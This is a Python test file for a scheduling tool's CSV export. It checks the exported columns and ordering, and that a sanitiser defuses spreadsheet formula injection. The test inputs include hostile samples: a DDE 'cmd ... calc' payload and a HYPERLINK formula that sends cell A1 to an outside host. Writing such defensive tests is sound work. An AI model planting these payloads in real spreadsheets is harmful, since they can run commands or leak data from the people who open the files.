"""The table of visits: what stands in it, and that no spreadsheet takes it for formulas."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from exchange.plans import plan_of, random_plans, texts_of_a_plan
from glimt_rules.plan.model import Plan
from glimt_rules.texts import Texts
from glimt_tui.exchange.table import ENCODING, Separator, as_csv, safe
from glimt_tui.language import texts_in

EN = texts_in("en")


def rows(plan: Plan, texts: Texts = EN, separator: Separator = ",") -> list[dict[str, str]]:
    """The table as a program reads it from a file."""
    written = as_csv(plan, texts, separator=separator).encode(ENCODING)
    text = io.TextIOWrapper(io.BytesIO(written), ENCODING, newline="")
    return list(csv.DictReader(text, delimiter=separator, strict=True))


def row(visit: dict[str, Any], **more: Any) -> dict[str, str]:
    (only,) = rows(plan_of(visit, **more))
    return only


# What stands in it -------------------------------------------------------------------------


def test_a_visit_is_a_row_with_what_people_call_things() -> None:
    people = [{"id": "p1", "name": "Ane Moen"}, {"id": "p2", "name": " "}, {"id": "p3"}]
    told = row(
        {
            "id": "band", "title": "Band, med «kaffe»", "kind": "leisure", "room": "musikk",
            "people": ["p1", "p2", "p3"], "absent": ["p3"], "equipment": ["m", "g"],
            "status": "arrived",
        },
        people=people,
        rooms=[{"id": "musikk", "name": "Musikkrommet"}],
        equipment=[{"id": "m", "name": "Mikrofon"}, {"id": "g"}],
    )  # fmt: skip
    assert told == {
        "Id": "band", "Day": "2021-01-12", "Start": "13:00", "End": "14:00",
        "Title": "Band, med «kaffe»", "Kind": "organised leisure", "Setting": "at the centre",
        "Room": "Musikkrommet", "People": "Ane Moen · p2 · p3", "Absent": "p3",
        "Equipment": "Mikrofon · g", "State": "arrived",
    }  # fmt: skip


def test_what_is_not_there_is_an_empty_cell_and_a_room_without_a_name_its_id() -> None:
    told = row({"room": "bali"}, rooms=[{"id": "bali"}])
    assert told["Room"] == "bali"
    assert [told[key] for key in ("Title", "Absent", "Equipment")] == ["", "", ""]
    assert row({"setting": "outdoors"})["Room"] == ""


def test_an_end_on_another_day_says_which() -> None:
    late = {"start": "2021-01-12T22:00", "end": "2021-01-13T01:30"}
    assert row(late)["End"] == "2021-01-13 01:30"


def test_times_are_the_plans_own_and_told_apart_where_they_come_twice() -> None:
    twice = {"start": "2021-10-31T00:15Z", "end": "2021-10-31T01:15Z"}
    told = row(twice)
    assert (told["Start"], told["End"]) == ("02:15+02:00", "02:15+01:00")
    told = row(twice, timezone="Asia/Kolkata")
    assert (told["Day"], told["Start"], told["End"]) == ("2021-10-31", "05:45", "06:45")


def test_visits_stand_in_order_of_arrival() -> None:
    plan = plan_of({"id": "b"}, {"id": "a"}, {"id": "c", "start": "2021-01-12T12:59"})
    assert [told["Id"] for told in rows(plan)] == ["c", "a", "b"]


def test_whoever_reads_no_names_gets_ids() -> None:
    (told,) = rows(plan_of({}), texts_in("en", names=False))
    assert told["People"] == "p-ane"


def test_a_norwegian_spreadsheet_finds_its_letters_and_its_semicolons() -> None:
    plan = plan_of({"title": "Øving; rolig"})
    assert as_csv(plan, EN, separator=";").encode(ENCODING).startswith(b'\xef\xbb\xbf"Id";"Day";')
    assert rows(plan, separator=";") == rows(plan)


@pytest.mark.parametrize("separator", [",", ";"])
def test_every_random_plan_is_a_table_with_a_row_a_visit(separator: Separator) -> None:
    for seed, plan in random_plans(range(60)):
        told = rows(plan, separator=separator)
        assert len(told) == len(plan.visits), f"seed {seed}"
        assert all(len(row) == 12 and None not in row.values() for row in told)


def test_every_cell_is_quoted_and_lines_end_as_the_standard_wants() -> None:
    text = as_csv(plan_of({}, {"title": 'Si "hei"'}), EN)
    assert text.endswith("\r\n")
    lines = text.removesuffix("\r\n").split("\r\n")
    assert len(lines) == 3
    assert all(re.fullmatch(r'"([^"]|"")*"(,"([^"]|"")*"){11}', line) for line in lines)


# Formulas ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+47 406 12 345", "'+47 406 12 345"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("|x", "'|x"),
        ("%0A=1", "'%0A=1"),
        ("\t=1", "'\t'=1"),
        ("\rx", "'\rx"),
        (" \tx", "' \tx"),
        ("  =1", "'  =1"),
        ("\u00a0\ufeff\u200b\u00ad=1", "'\u00a0\ufeff\u200b\u00ad=1"),
        ('"=1', "'\"=1"),
        ("«=1»", "'«=1»"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠x", "'＠x"),
        ("﹦1", "'﹦1"),
        ("⁼1", "'⁼1"),
        ("−1", "'−1"),
        ("Tur;=1+1", "Tur;'=1+1"),
        ('Tur; "=1+1"; mat', 'Tur;\' "=1+1"; mat'),
        ("Tur,=1", "Tur,'=1"),
        ("a\n=1\r\n+2", "a\n'=1\r\n'+2"),
        (";=1", ";'=1"),
        ("；=1", "；'=1"),
        ("'=1", "'=1"),
        ("\"'=1", "'\"'=1"),
    ],
)
def test_what_begins_like_a_formula_becomes_text(text: str, written: str) -> None:
    assert safe(text) == written


@pytest.mark.parametrize(
    "text",
    ["", " ", "Ane Moen", "2021-01-12", "13:00", "12", "1,5", "a=b", "Tur – og mat", "C++; rolig",
     "Å/lære: 100 %", "ane@example.org", "Bo's «band»", "– pause –", "A-hus", "🎸=🎵"],
)  # fmt: skip
def test_ordinary_texts_numbers_and_dates_stay_as_they_are(text: str) -> None:
    assert safe(text) == text


def beginnings(text: str) -> list[str]:
    """What could be the beginning of a cell, for whatever splits a text without its quotes."""
    parts = re.split("[;,\t\r\n\v\f\x1c-\x1e\x85\u2028\u2029；]", text)
    return [part.lstrip(' "“”„«»‘’‚‹›`´\u00a0\ufeff\u200b\u00ad\u2060') for part in parts]


nasty = st.text(st.sampled_from("=+-@|%＝＋－＠;,\t\r\n\"' «\u00a0\ufeffa1")) | st.text()


@given(text=nasty)
def test_no_part_of_a_cell_begins_like_a_formula(text: str) -> None:
    written = safe(text)
    for part in beginnings(written):
        assert part[:1] not in tuple("=+-@|%＝＋－＠｜％")
    assert written[:1] not in ("\t", "\r", "\n")
    assert safe(written) == written
    assert written.replace("'", "") == text.replace("'", "")


nasty_in_a_plan = texts_of_a_plan | st.text(
    st.sampled_from("=+-@|%＝＋－＠;,\"' «\u00a0\ufeffa1"), min_size=1, max_size=12
)


@given(title=nasty_in_a_plan, name=nasty_in_a_plan, room=nasty_in_a_plan)
@example(title='x";=HYPERLINK("http://e.org?"&A1)', name='";=1+1;"', room='","=1')
def test_neither_of_the_two_separators_lets_a_formula_through(
    title: str, name: str, room: str
) -> None:
    plan = plan_of(
        {"id": "-1", "title": title, "room": "r", "people": ["a", "b"], "absent": ["b"]},
        people=[{"id": "a", "name": name}, {"id": "b", "name": name}],
        rooms=[{"id": "r", "name": room}],
    )
    separator: Separator
    for separator in (",", ";"):
        text = as_csv(plan, EN, separator=separator)
        for part in beginnings(text):
            assert part[:1] not in tuple("=+-@|%＝＋－＠"), text
        (told,) = rows(plan, separator=separator)
        assert told["Id"] == "'-1"
        assert told["Title"] == safe(title)
        assert told["Room"] == safe(room.strip() or "r")
